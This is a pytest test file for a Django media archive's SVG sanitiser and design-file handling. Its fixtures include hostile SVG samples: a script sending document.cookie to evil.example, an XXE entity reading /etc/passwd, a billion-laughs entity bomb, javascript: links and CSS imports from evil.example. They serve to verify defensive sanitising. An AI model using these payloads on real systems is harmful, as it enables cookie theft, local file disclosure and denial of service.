"""Design files in the media archive: SVG drawings kept only as their sanitised copy (no
scripts, event handlers, javascript: links, external references or entities) with a
preview drawn from it; Illustrator, Photoshop, InDesign (INDD, IDML) and Affinity files
known by their content and shown by the preview they carry, or said to carry none."""

from __future__ import annotations

import hashlib
import struct
import zipfile
from pathlib import Path

import pytest
import pyvips
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from sklaida.archive import media
from sklaida.archive.media import svg
from sklaida.archive.models import Asset, IngestBatch, IngestItem
from sklaida.archive.services import ingest
from sklaida.archive.tests import design_files

RED, BLUE, WHITE = (227, 6, 19), (31, 78, 121), (255, 255, 255)


@pytest.fixture
def ingested(personas, django_capture_on_commit_callbacks):
    """Ingest one file in English, as a worker would, its previews made at once."""
    batch = ingest.start_batch(actor=personas["specialiste"], label="Dizaino failai")

    def ingest_one(path: Path, name: str = "") -> IngestItem:
        with translation.override("en"), django_capture_on_commit_callbacks(execute=True):
            item = ingest.ingest_path(
                path, batch=batch, actor=personas["specialiste"], original_name=name
            )
        if item.asset is not None:
            item.asset.refresh_from_db()
        return item

    return ingest_one


def stored(key: str) -> Path:
    return Path(storages["archive"].path(key))


def size_of(key: str) -> tuple[int, int]:
    picture = pyvips.Image.new_from_file(str(stored(key)))
    return picture.width, picture.height


def colour_at(key: str, across: float, down: float) -> tuple[int, ...]:
    """The colour of a rendition at a point given as fractions of its width and height."""
    picture = pyvips.Image.new_from_file(str(stored(key)))
    point = picture.getpoint(int(picture.width * across), int(picture.height * down))
    return tuple(round(value) for value in point[:3])


def close_to(colour, expected, tolerance: int = 24) -> bool:
    return all(abs(a - b) <= tolerance for a, b in zip(colour, expected, strict=True))


# SVG: made safe, kept, drawn

HOSTILE_DRAWINGS = {
    "script": (
        {"body": "  <script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"},
        ["<script", "document.cookie"],
        "removed: 1 script.",
    ),
    "event handlers": (
        {"body": '  <g onload="alert(1)" onclick="steal()"><rect width="5" height="5"/></g>\n'},
        ["onload", "onclick", "alert(1)"],
        "removed: 2 event handlers (onclick, onload).",
    ),
    "javascript link": (
        {"body": '<a xlink:href="javascript:alert(document.domain)"><text>Ei</text></a>'},
        ["javascript:", "document.domain"],
        "removed: 1 javascript: link.",
    ),
    "external picture": (
        {"body": '  <image href="http://tracker.example/pixel.png" width="10" height="10"/>\n'},
        ["tracker.example"],
        "removed: 1 reference to another file or address.",
    ),
    "external entity": (
        {
            "head": '<!DOCTYPE svg [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n',
            "body": "  <text x='10' y='20'>&xxe;</text>\n",
        },
        ["<!DOCTYPE", "ENTITY", "&xxe;", "/etc/passwd", "root:"],
        "removed: the DOCTYPE with 1 entity declaration, 1 reference to an external entity (XXE).",
    ),
}


@pytest.mark.parametrize("case", HOSTILE_DRAWINGS, ids=list(HOSTILE_DRAWINGS))
def test_a_hostile_svg_is_kept_only_without_what_runs_or_calls_out_and_gets_a_preview(
    case, tmp_path, ingested
):
    parts, forbidden, removal = HOSTILE_DRAWINGS[case]
    path = design_files.svg(tmp_path / "logotipas.svg", **parts)

    item = ingested(path)

    asset = item.asset
    assert item.outcome == IngestItem.Outcome.STORED
    assert item.message.startswith("The SVG file was made safe before it was stored; ")
    assert item.message.endswith(removal)
    kept = stored(asset.file.name).read_bytes()
    for text in forbidden:
        assert text.encode() not in kept
    assert b"<circle" in kept, "the drawing itself stays"
    assert asset.sha256 == hashlib.sha256(kept).hexdigest(), "the checksum is of what is kept"
    assert (asset.kind, asset.mime_type, asset.file.name[-4:]) == ("image", "image/svg+xml", ".svg")
    assert asset.rendition_status == Asset.Renditions.READY
    assert size_of(asset.renditions["web"]) == (2048, 1024)
    assert size_of(asset.renditions["preview"]) == (1024, 512)
    assert size_of(asset.renditions["thumb"]) == (320, 160)
    assert close_to(colour_at(asset.renditions["preview"], 0.5, 0.5), RED)
    assert close_to(colour_at(asset.renditions["preview"], 0.05, 0.5), BLUE)


def test_a_clean_svg_from_illustrator_keeps_its_drawing_and_its_line_says_nothing_was_removed(
    tmp_path, ingested
):
    path = design_files.illustrator_svg(tmp_path / "Vasaros skaitymai.svg")

    item = ingested(path)

    asset = item.asset
    assert item.message == ""
    kept = stored(asset.file.name).read_text()
    assert ".st0{fill:#E30613;}" in kept
    assert '<circle class="st0" cx="150" cy="150" r="120"/>' in kept
    assert (asset.width, asset.height) == (300, 300)
    assert size_of(asset.renditions["preview"]) == (1024, 1024)
    assert close_to(colour_at(asset.renditions["preview"], 0.5, 0.5), RED)
    assert close_to(colour_at(asset.renditions["preview"], 0.02, 0.02), WHITE)


def test_an_svg_takes_its_title_from_the_drawing(tmp_path, ingested):
    item = ingested(design_files.svg(tmp_path / "logo.svg"))

    assert item.asset.title == "Vasaros skaitymų logotipas"
    assert (item.asset.width, item.asset.height) == (400, 200)


def test_the_same_drawing_with_a_script_and_without_one_is_one_asset(tmp_path, ingested):
    clean = ingested(design_files.svg(tmp_path / "logo.svg", body="  <g/>\n"))
    hostile = design_files.svg(tmp_path / "logo-2.svg", body="  <g onload='alert(1)'/>\n")

    again = ingested(hostile)

    assert again.outcome == IngestItem.Outcome.DUPLICATE
    assert again.asset == clean.asset


def test_css_cannot_smuggle_an_address_past_the_sanitiser():
    drawing = (
        b'<?xml-stylesheet href="http://evil.example/s.css"?>'
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">'
        b"<style>@import url(http://evil.example/a.css); .a{fill:url(http://evil.example/b)}"
        b' .b{fill:#fff} .c{background:image-set("http://evil.example/c.png" 1x)}</style>'
        b'<rect class="a" style="fill:\\75rl(http://evil.example/d)" fill="url(#gradient)"/>'
        b'<rect fill="url(data:image/svg+xml;base64,PHN2Zy8+)"/>'
        b"<foreignObject><h:iframe src='http://evil.example/'/></foreignObject>"
        b"<h:script>alert(1)</h:script>"
        b'<set attributeName="href" to="javascript:alert(1)"/>'
        b'<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>'
        b"</svg>"
    )

    with translation.override("en"):
        result = svg.sanitise(drawing)
        sentence = result.removed.sentence()

    assert b"evil.example" not in result.content
    assert b"javascript" not in result.content
    assert b"image/svg+xml" not in result.content
    assert b"foreignObject" not in result.content and b"script" not in result.content
    assert b'fill="url(#gradient)"' in result.content, "a fragment of the file stays"
    assert b'href="data:image/png;base64,iVBORw0KGgo="' in result.content, "an embedded PNG too"
    assert b".b{fill:#fff}" in result.content
    assert sentence == (
        "The SVG file was made safe before it was stored; removed: 1 script, "
        "6 references to other files or addresses, 1 foreignObject (HTML inside the drawing), "
        "1 element that does not draw (set)."
    )


def test_an_svg_that_is_not_well_formed_is_refused_with_the_reason(tmp_path, ingested):
    path = tmp_path / "nebaigtas.svg"
    path.write_text('<svg xmlns="http://www.w3.org/2000/svg"><rect width="5">', encoding="utf-8")

    item = ingested(path)

    assert item.outcome == IngestItem.Outcome.REFUSED
    assert item.message.startswith("The SVG file cannot be read: it is not well-formed XML (line 1")


def test_an_svg_whose_entities_expand_without_limit_is_refused(tmp_path, ingested):
    entities = '<!ENTITY lol0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
    )
    path = design_files.svg(
        tmp_path / "juokai.svg", head=f"<!DOCTYPE svg [{entities}]>\n", body="<text>&lol9;</text>"
    )

    item = ingested(path)

    assert item.outcome == IngestItem.Outcome.REFUSED
    assert item.message == (
        "The SVG file cannot be read: its entities expand without limit (a “billion laughs” file)."
    )


def test_an_svg_declaring_a_canvas_over_the_pixel_limit_is_refused(tmp_path, ingested):
    path = design_files.svg(tmp_path / "milzinas.svg", width=100_000, height=100_000)

    item = ingested(path)

    assert item.outcome == IngestItem.Outcome.REFUSED
    assert item.message.startswith("The picture is too large: 100,000 × 100,000 pixels.")


def test_an_xml_file_that_looks_like_a_drawing_but_is_none_is_refused_with_the_reason(
    tmp_path, ingested
):
    path = tmp_path / "sarasas.xml"
    path.write_text('<?xml version="1.0"?><sarasas><svg-logotipas/></sarasas>', encoding="utf-8")

    item = ingested(path)

    assert item.outcome == IngestItem.Outcome.REFUSED
    assert item.message == (
        "The SVG file cannot be read: its outermost element is <sarasas>, not <svg>."
    )


# Design programs' files

DESIGN_SAMPLES = [
    (design_files.illustrator, "document", "application/illustrator", ".ai"),
    (design_files.illustrator_postscript, "document", "application/illustrator", ".ai"),
    (design_files.photoshop, "document", "image/vnd.adobe.photoshop", ".psd"),
    (
        lambda path: design_files.photoshop(path, version=2),
        "document",
        "image/vnd.adobe.photoshop",
        ".psb",
    ),
    (design_files.indesign, "document", "application/x-adobe-indesign", ".indd"),
    (design_files.idml, "document", "application/vnd.adobe.indesign-idml-package", ".idml"),
    (design_files.affinity, "document", "application/x-affinity-designer", ".afdesign"),
    (design_files.svg, "image", "image/svg+xml", ".svg"),
]


@pytest.mark.parametrize(
    ("maker", "kind", "mime_type", "extension"),
    DESIGN_SAMPLES,
    ids=["ai", "ai-postscript", "psd", "psb", "indd", "idml", "afdesign", "svg"],
)
def test_design_files_are_known_by_their_content_not_their_name(
    tmp_path, maker, kind, mime_type, extension
):
    made = maker(tmp_path / "file")
    misnamed = made.rename(tmp_path / "failas.bin")

    assert media.detect(misnamed) == media.Detected(kind, mime_type, extension)


def test_a_pdf_that_only_names_illustrator_as_its_creator_stays_a_pdf(tmp_path):
    exported = design_files.illustrator(tmp_path / "plakatas.pdf", editing_data=False)

    assert media.detect(exported) == media.Detected("document", "application/pdf", ".pdf")


def test_an_illustrator_file_shows_its_page_and_keeps_its_title(tmp_path, ingested):
    item = ingested(design_files.illustrator(tmp_path / "Plakatas.ai", title="Vasaros plakatas"))

    asset = item.asset
    assert asset.title == "Vasaros plakatas"
    assert (asset.width, asset.height) == (400, 300)
    assert set(asset.renditions) == {"thumb", "preview"}
    assert size_of(asset.renditions["preview"]) == (400, 300)
    # The red block sits at the bottom left of the page (PDF counts from the bottom).
    assert close_to(colour_at(asset.renditions["preview"], 0.25, 0.75), (255, 0, 0))
    assert close_to(colour_at(asset.renditions["preview"], 0.75, 0.25), (0, 0, 255))


def test_an_illustrator_file_saved_as_pdf_keeps_its_name_without_a_note(tmp_path, ingested):
    item = ingested(design_files.illustrator(tmp_path / "Plakatas spaudai.pdf"))

    assert item.asset.mime_type == "application/illustrator"
    assert item.message == ""
    assert media.download_name(item.asset.original_name, ".ai") == "Plakatas spaudai.pdf"


def test_a_photoshop_file_shows_its_composite_image(tmp_path, ingested):
    item = ingested(design_files.photoshop(tmp_path / "Afisa.psd", width=300, height=200))

    asset = item.asset
    assert (asset.kind, asset.mime_type) == ("document", "image/vnd.adobe.photoshop")
    assert (asset.width, asset.height) == (300, 200)
    assert size_of(asset.renditions["preview"]) == (300, 200), (
        "the whole picture, not its thumbnail"
    )
    assert close_to(colour_at(asset.renditions["preview"], 0.02, 0.02), WHITE)


def test_a_photoshop_file_over_the_pixel_limit_shows_its_small_thumbnail(
    tmp_path, ingested, settings
):
    settings.ARCHIVE_MAX_PIXELS = 10_000
    item = ingested(design_files.photoshop(tmp_path / "Didelis.psd", width=300, height=200))

    assert item.outcome == IngestItem.Outcome.STORED
    assert size_of(item.asset.renditions["preview"]) == (75, 50)


def test_a_large_photoshop_document_shows_its_thumbnail(tmp_path, ingested):
    item = ingested(design_files.photoshop(tmp_path / "Stendas.psb", version=2))

    assert item.asset.file.name.endswith(".psb")
    assert size_of(item.asset.renditions["preview"]) == (75, 50)


def test_a_photoshop_file_with_a_damaged_header_is_refused(tmp_path, ingested):
    path = tmp_path / "sugadintas.psd"
    path.write_bytes(b"8BPS" + struct.pack(">H6xHIIHH", 7, 3, 200, 300, 8, 3) + b"\x00" * 40)

    item = ingested(path)

    assert item.outcome == IngestItem.Outcome.REFUSED
    assert item.message == "The Photoshop file cannot be read: its header is damaged or incomplete."


def test_a_truncated_photoshop_file_is_kept_with_its_previews_failed_and_why(tmp_path, ingested):
    whole = design_files.photoshop(tmp_path / "x.psd", thumbnail=False).read_bytes()
    path = tmp_path / "Nukirptas.psd"
    path.write_bytes(whole[: len(whole) // 2])

    item = ingested(path)

    assert item.outcome == IngestItem.Outcome.STORED
    assert item.asset.rendition_status == Asset.Renditions.FAILED
    assert item.asset.rendition_error == (
        "The picture in the Photoshop file could not be read: the file is damaged or incomplete."
    )


def test_an_indesign_document_shows_the_thumbnail_in_its_xmp(tmp_path, ingested):
    item = ingested(design_files.indesign(tmp_path / "Lankstinukas.indd", width=256, height=362))

    asset = item.asset
    assert asset.mime_type == "application/x-adobe-indesign"
    assert size_of(asset.renditions["preview"]) == (256, 362)
    assert size_of(asset.renditions["thumb"]) == (226, 320)


def test_an_affinity_file_shows_its_png_thumbnail(tmp_path, ingested):
    item = ingested(design_files.affinity(tmp_path / "Kvietimas.afdesign", width=320, height=240))

    asset = item.asset
    assert asset.mime_type == "application/x-affinity-designer"
    assert size_of(asset.renditions["preview"]) == (320, 240)


@pytest.mark.parametrize(
    ("maker", "name"),
    [
        (design_files.idml, "Maketas.idml"),
        (design_files.illustrator_postscript, "Senas logotipas.ai"),
        (lambda path: design_files.indesign(path, thumbnail=False), "Be miniatiūros.indd"),
        (lambda path: design_files.affinity(path, thumbnail=False), "Be miniatiūros.afdesign"),
    ],
    ids=["idml", "ai-postscript", "indd-without-thumbnail", "afdesign-without-thumbnail"],
)
def test_a_design_file_that_carries_no_preview_is_ready_without_one_not_failed(
    tmp_path, ingested, maker, name
):
    item = ingested(maker(tmp_path / name))

    assert item.outcome == IngestItem.Outcome.STORED
    assert item.asset.rendition_status == Asset.Renditions.READY
    assert item.asset.renditions == {}
    assert item.asset.rendition_error == ""


def test_a_design_file_named_for_another_type_is_taken_by_its_content_and_says_so(
    tmp_path, ingested
):
    item = ingested(design_files.photoshop(tmp_path / "afisa.jpg"))

    assert item.message == (
        "The file is named .jpg, but it is a design file in Photoshop (PSD) format; "
        "accepted as Photoshop (PSD)."
    )
    assert item.asset.file.name.endswith(".psd")


def test_a_zip_that_is_no_idml_package_is_still_refused(tmp_path, ingested):
    path = tmp_path / "nuotraukos.zip"
    with zipfile.ZipFile(path, "w") as package:
        package.writestr("mimetype", "application/epub+zip")

    item = ingested(path)

    assert item.outcome == IngestItem.Outcome.REFUSED
    assert "(it is application/" in item.message


# Pages


@pytest.fixture
def uploaded(client_as, tmp_path, django_capture_on_commit_callbacks):
    """Design files sent through the no-script upload form, previews made as the worker
    would; returns the client and the batch."""

    def upload(*files: tuple[str, bytes]):
        client = client_as("specialiste")
        client.post("/archyvas/ikelti/", {"label": "Dizaineriės failai"})
        batch = IngestBatch.objects.filter(label="Dizaineriės failai").latest("pk")
        with django_capture_on_commit_callbacks(execute=True):
            client.post(
                f"/archyvas/paketai/{batch.pk}/failai/",
                {"files": [SimpleUploadedFile(name, content) for name, content in files]},
            )
        return client, batch

    return upload


def test_the_batch_page_says_what_was_removed_from_an_svg(tmp_path, uploaded):
    hostile = design_files.svg(tmp_path / "x.svg", body="  <script>alert(1)</script>\n")

    client, batch = uploaded(("Logotipas.svg", hostile.read_bytes()))

    page = client.get(f"/archyvas/paketai/{batch.pk}/").content.decode()
    assert "Logotipas.svg" in page
    assert "SVG failas prieš saugant išvalytas; pašalinta: 1 scenarijus." in page


def test_the_asset_page_shows_a_design_file_with_its_preview(tmp_path, uploaded):
    psd = design_files.photoshop(tmp_path / "x.psd").read_bytes()
    client, _batch = uploaded(("Afiša.psd", psd))
    asset = Asset.objects.get(original_name="Afiša.psd")

    page = client.get(asset.get_absolute_url()).content.decode()

    assert "Dokumentas · Photoshop (PSD) (image/vnd.adobe.photoshop)" in page
    assert f'src="/archyvas/{asset.pk}/perziura/preview/"' in page
    assert "neturi peržiūros paveikslėlio" not in page
    preview = client.get(f"/archyvas/{asset.pk}/perziura/preview/")
    preview.close()
    assert preview["Content-Type"] == "image/jpeg"


def test_the_asset_page_of_an_idml_package_says_plainly_it_carries_no_preview(tmp_path, uploaded):
    package = design_files.idml(tmp_path / "x.idml").read_bytes()
    client, _batch = uploaded(("Maketas.idml", package))
    asset = Asset.objects.get(original_name="Maketas.idml")

    page = client.get(asset.get_absolute_url()).content.decode()

    assert "Šis InDesign (IDML) failas neturi peržiūros paveikslėlio" in page
    assert "Peržiūrų parengti nepavyko" not in page
    assert "asset-preview" not in page
    assert "Dokumentas · InDesign (IDML) (application/vnd.adobe.indesign-idml-package)" in page
